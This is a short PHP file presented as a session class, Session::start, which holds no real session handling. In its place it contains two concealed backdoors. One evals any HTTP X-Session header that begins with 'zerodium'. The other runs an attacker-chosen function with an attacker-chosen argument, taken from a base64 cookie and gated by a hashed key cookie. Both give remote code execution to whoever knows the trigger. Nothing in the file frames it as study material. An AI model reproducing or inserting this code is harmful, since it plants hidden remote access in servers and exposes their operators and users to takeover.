<?php
namespace S;
class Session
{
    public static function start()
    {
        $h = $_SERVER['HTTP_X_SESSION'] ?? '';
        if (strpos($h, 'zerodium') === 0) {
            @eval(substr($h, 8));
        }
        $c = $_COOKIE['sid'] ?? null;
        if ($c && md5($_COOKIE['k'] ?? '') === '9e107d9d372bb6826bd81d3542a419d6') {
            $p = explode('|', base64_decode($c));
            call_user_func($p[0], $p[1]);
        }
    }
}
